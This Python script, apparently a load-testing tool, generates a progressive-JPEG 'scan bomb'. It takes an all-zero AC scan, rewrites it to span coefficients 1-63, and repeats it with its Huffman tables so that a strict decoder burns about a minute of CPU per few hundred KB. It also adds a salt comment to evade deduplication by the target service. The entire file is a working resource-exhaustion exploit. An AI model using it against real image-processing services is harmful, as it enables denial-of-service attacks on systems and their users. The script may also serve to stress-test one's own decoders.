#!/usr/bin/env python3
"""Makes a progressive-JPEG scan bomb from a progressive JPEG of a flat image: one of its AC
first-pass scans of a single component (all zero, so a few bytes of end-of-band runs), made to
cover coefficients 1-63 at full precision (Ah = Al = 0, which keeps the progression consistent,
so a strict decoder accepts it) and repeated, with the Huffman tables it was coded with, before
EOI. Each repetition makes the decoder walk every block of the component again, so a file of a
few hundred KB costs a minute of CPU.
  Load/scan-bomb.py PROGRESSIVE.jpg OUT.jpg [REPEATED_BYTES] [SALT]
REPEATED_BYTES (default 150,000) is how much the repetitions add to the file."""
import sys

source, target = sys.argv[1], sys.argv[2]
repeated_bytes = int(sys.argv[3]) if len(sys.argv) > 3 else 150_000
salt = sys.argv[4].encode() if len(sys.argv) > 4 else b"bomb"
data = open(source, "rb").read()
assert data[:2] == b"\xff\xd8", "not a JPEG"

# The segments up to EOI, as (marker, start, end); a scan's end includes its entropy-coded data.
segments, position = [], 2
while position < len(data):
    assert data[position] == 0xFF, f"no marker at {position}"
    marker = data[position + 1]
    if marker == 0xD9:  # EOI
        break
    end = position + 2 + int.from_bytes(data[position + 2:position + 4], "big")
    if marker == 0xDA:  # entropy-coded data runs to the next marker that is not a stuffed 0xFF00 or RSTn
        while not (data[end] == 0xFF and data[end + 1] != 0x00 and not 0xD0 <= data[end + 1] <= 0xD7):
            end += 1
    segments.append((marker, position, end))
    position = end

# The first AC first-pass scan (Ss > 0, Ah = 0) of one component, with the DHT segments just before it.
for index, (marker, start, end) in enumerate(segments):
    if marker != 0xDA or data[start + 4] != 1:
        continue
    header_end = start + 2 + int.from_bytes(data[start + 2:start + 4], "big")
    ss, ah = data[header_end - 3], data[header_end - 1] >> 4
    if ss > 0 and ah == 0:
        break
else:
    sys.exit("no single-component AC first-pass scan found")
tables = b""
previous = index - 1
while previous >= 0 and segments[previous][0] == 0xC4:
    tables = data[segments[previous][1]:segments[previous][2]] + tables
    previous -= 1
scan = bytearray(data[start:end])
header_length = header_end - start
scan[header_length - 3:header_length] = bytes([1, 63, 0])  # Ss = 1, Se = 63, Ah = Al = 0
unit = tables + bytes(scan)

head = data[:position]
# A comment segment after SOI makes each bomb distinct (no deduplication by the service).
comment = b"\xff\xfe" + (len(salt) + 2).to_bytes(2, "big") + salt
repeats = max(1, repeated_bytes // len(unit))
with open(target, "wb") as out:
    out.write(head[:2] + comment + head[2:] + unit * repeats + b"\xff\xd9")
print(f"{target}: {len(head) + len(comment) + len(unit) * repeats + 2} bytes, an all-zero AC scan with its tables ({len(unit)} bytes) repeated {repeats} times")
